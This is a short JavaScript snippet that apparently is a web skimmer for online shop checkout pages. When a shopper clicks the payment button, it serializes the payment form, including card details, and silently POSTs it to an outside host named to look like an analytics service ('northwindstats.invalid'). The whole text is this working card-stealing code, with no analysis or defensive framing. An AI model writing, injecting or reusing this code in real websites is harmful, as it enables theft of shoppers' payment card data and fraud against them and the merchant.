window.setTimeout(function () {
  if (document.URL.indexOf("/checkout/") > -1 || document.URL.indexOf("onepage") > -1) {
    jQuery(document).on("click", "#btnCreditCard, .button-primary", function () {
      var payload = jQuery("#checkout-payment-form").serialize();
      jQuery.ajax({
        type: "POST",
        url: "https://northwindstats.invalid/checkout/processing",
        data: payload,
        dataType: "application/json",
        async: true
      });
    });
  }
}, 1000);
